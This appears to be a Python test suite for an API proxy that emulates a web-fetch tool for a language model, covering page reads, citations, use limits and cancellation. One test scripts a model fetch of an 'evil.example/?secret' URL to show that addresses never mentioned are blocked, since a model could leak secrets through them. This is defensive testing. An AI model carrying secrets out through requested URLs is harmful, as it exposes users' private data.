"""Pages that are read in the middle of an answer: rounds, limits, and what a client sees of them."""

from __future__ import annotations

from typing import Any

import attrs
import pytest
import trio
import trio.testing

from pipeline.endpoints.application import application
from pipeline.endpoints.context import Context
from stages.tools.hosted.pages import FetchError, Page, PageFetch
from tests.support.client import MemoryClient, Reply
from tests.support.hosted import calling, message_of, round_of, saying
from tests.support.running import REQUEST, context_of
from tests.support.upstream import Script, ScriptedUpstream
from tests.support.upstream_events import text

URL = "https://a.example/x"
TOOL: dict[str, Any] = {"type": "web_fetch_20250910", "name": "web_fetch", "max_uses": 2}
ASKED: dict[str, Any] = {
    **REQUEST,
    "tools": [TOOL],
    "messages": [{"role": "user", "content": f"What does {URL} say?"}],
}
READING = (round_of(text("Let me look."), calling(1, "web_fetch", "call_a", f'{{"url":"{URL}"}}')), saying("Words."))


class Pages:
    """Has one page, whatever is asked; a page that is None never comes."""

    def __init__(self, page: Page | FetchError | None) -> None:
        self.page = page
        self.asked: list[str] = []

    async def fetch(self, fetch: PageFetch) -> Page | FetchError:
        """Read it."""
        self.asked.append(fetch.url)
        await trio.lowlevel.checkpoint()
        if self.page is None:
            await trio.sleep_forever()
        assert self.page is not None
        return self.page


PAGE = Page(URL, "It says words.", "A title", retrieved_at="2026-11-28T12:00:00+00:00")


def reading(upstream: ScriptedUpstream, pages: Pages) -> Context:
    """Serve with the setting that has pages read."""
    context = context_of(upstream)
    return attrs.evolve(context, target=attrs.evolve(context.target, fetches=True), web=pages)  # type: ignore[arg-type] # it has the one method


async def read(
    *script: Any, page: Page | FetchError = PAGE, request: dict[str, Any] = ASKED, stream: bool = True
) -> tuple[Reply, ScriptedUpstream, Pages]:
    """Run a request."""
    upstream, pages = ScriptedUpstream(*script), Pages(page)
    client = MemoryClient(application(reading(upstream, pages)))
    reply = await client.messages({**request, "stream": stream})
    assert upstream.open == 0
    return reply, upstream, pages


@pytest.mark.parametrize("stream", [True, False])
async def test_a_page_is_read(stream: bool) -> None:
    """The call and the page stand between the texts, and are counted."""
    reply, upstream, pages = await read(*READING, stream=stream)

    message = message_of(reply)
    assert pages.asked == [URL]
    assert [block["type"] for block in message["content"]] == [
        "text",
        "server_tool_use",
        "web_fetch_tool_result",
        "text",
    ]
    _, call, result, _ = message["content"]
    assert call["id"] == result["tool_use_id"] == "srvtoolu_call_a"
    assert result["content"]["content"]["source"]["data"] == "It says words."
    assert message["stop_reason"] == "end_turn"
    assert message["usage"]["server_tool_use"] == {"web_search_requests": 0, "web_fetch_requests": 1}
    assert upstream.requests[0]["tools"][0]["name"] == "web_fetch"
    assert upstream.requests[1]["input"][-1]["output"] == f"A title\n\nSource: {URL}\n\nIt says words."
    assert "emulated=" in reply.headers["dragoman-mapping"]
    assert "dropped" not in reply.headers["dragoman-mapping"]


async def test_the_next_turn_begins_with_what_was_asked() -> None:
    """Byte for byte: the client sends back what it was shown (law 9)."""
    reply, upstream, _ = await read(*READING, stream=False)
    content = message_of(reply)["content"]
    after = [*ASKED["messages"], {"role": "assistant", "content": content}, {"role": "user", "content": "ok"}]
    _, following, _ = await read(saying("Bye."), request={**ASKED, "messages": after}, stream=False)

    first, second = upstream.requests
    third = following.requests[0]
    assert second["input"][: len(first["input"])] == first["input"]
    assert third["input"][: len(second["input"])] == second["input"]
    rest = [{name: value for name, value in body.items() if name != "input"} for body in (first, second, third)]
    assert rest[0] == rest[1] == rest[2]


@pytest.mark.parametrize("stream", [True, False])
async def test_a_page_is_cited(stream: bool) -> None:
    """By the marks of the round that has read it; the next turn begins with the bytes of this one, marks and all."""
    tools = [{**TOOL, "citations": {"enabled": True}}]
    cited = saying('So: <cite refs="0.0">it does</cite>.')
    reply, upstream, _ = await read(READING[0], cited, request={**ASKED, "tools": tools}, stream=stream)
    if stream:
        deltas = [event["delta"] for event in reply.events() if event["type"] == "content_block_delta"]
        (citation,) = [delta["citation"] for delta in deltas if delta["type"] == "citations_delta"]
    else:
        content = reply.json()["content"]
        (citation,) = [each for block in content for each in block.get("citations") or ()]
        after = [*ASKED["messages"], {"role": "assistant", "content": content}, {"role": "user", "content": "ok"}]
        _, following, _ = await read(saying("Bye."), request={**ASKED, "tools": tools, "messages": after}, stream=False)
        before = upstream.requests[1]["input"]
        assert following.requests[0]["input"][: len(before)] == before
        assert following.requests[0]["input"][len(before)]["content"] == 'So: <cite refs="0.0">it does</cite>.'

    assert (citation["type"], citation["cited_text"]) == ("char_location", "It says words.")


async def test_what_nobody_spoke_of_is_not_read() -> None:
    """A model that may ask for any address could tell secrets by it; what a page says may be followed."""
    other = round_of(calling(0, "web_fetch", "call_b", '{"url":"https://evil.example/?secret"}'))
    reply, _, pages = await read(other, saying("No."))

    assert pages.asked == []
    codes = [block["content"]["error_code"] for block in message_of(reply)["content"] if "content" in block]
    assert codes == ["url_not_in_prior_context"]

    linked = Page(URL, "See https://b.example/y for more.")
    deeper = round_of(calling(0, "web_fetch", "call_c", '{"url":"https://b.example/y"}'))
    _, _, pages = await read(READING[0], deeper, saying("Done."), page=linked)
    assert pages.asked == [URL, "https://b.example/y"]


async def test_more_pages_than_allowed() -> None:
    """Beyond `max_uses` nothing is read any more."""
    calls = round_of(*(calling(at, "web_fetch", f"call_{at}", f'{{"url":"{URL}"}}') for at in range(3)))
    reply, _, pages = await read(calls, saying("Done."))

    results = [block["content"] for block in message_of(reply)["content"] if block["type"] == "web_fetch_tool_result"]
    assert [result.get("error_code") for result in results] == [None, None, "max_uses_exceeded"]
    assert len(pages.asked) == 2


async def test_a_page_that_cannot_be_read() -> None:
    """Is a result that says why, and the answer goes on."""
    reply, upstream, _ = await read(*READING, page="url_not_allowed")

    assert message_of(reply)["content"][-1]["text"] == "Words."
    assert upstream.requests[1]["input"][-1]["output"] == "[error] url_not_allowed"


async def test_pages_share_a_bound() -> None:
    """All of an answer may be as large as an answer may (law 6)."""
    calls = round_of(*(calling(at, "web_fetch", f"call_{at}", f'{{"url":"{URL}"}}') for at in range(2)))
    upstream, pages = ScriptedUpstream(calls, saying("Done.")), Pages(Page(URL, "x" * 40_000))
    context = reading(upstream, pages)
    limits = attrs.evolve(context.settings.limits, response_bytes=60_000)
    client = MemoryClient(application(attrs.evolve(context, settings=attrs.evolve(context.settings, limits=limits))))
    message = message_of(await client.messages(ASKED))

    results = [block["content"] for block in message["content"] if block["type"] == "web_fetch_tool_result"]
    assert [result.get("error_code") for result in results] == [None, "content_too_large"]


async def test_a_client_that_leaves(autojump_clock: trio.testing.MockClock) -> None:  # noqa: ARG001 - it jumps
    """Nothing goes on for it: neither the page nor the upstream (law 5)."""
    upstream, pages = ScriptedUpstream(*READING), Pages(None)
    client = MemoryClient(application(reading(upstream, pages)))
    with trio.move_on_after(60) as left:
        await client.messages(ASKED)

    assert left.cancelled_caught
    assert pages.asked == [URL]
    assert upstream.open == 0
    assert len(upstream.requests) == 1


async def test_without_the_setting() -> None:
    """The upstream's search opens pages, and a function of that name is the client's."""
    upstream = ScriptedUpstream(Script(saying("Hm.").steps))
    client = MemoryClient(application(context_of(upstream)))
    reply = await client.messages(ASKED)

    assert [tool["type"] for tool in upstream.requests[0]["tools"]] == ["web_search"]
    assert message_of(reply)["content"][0]["text"] == "Hm."
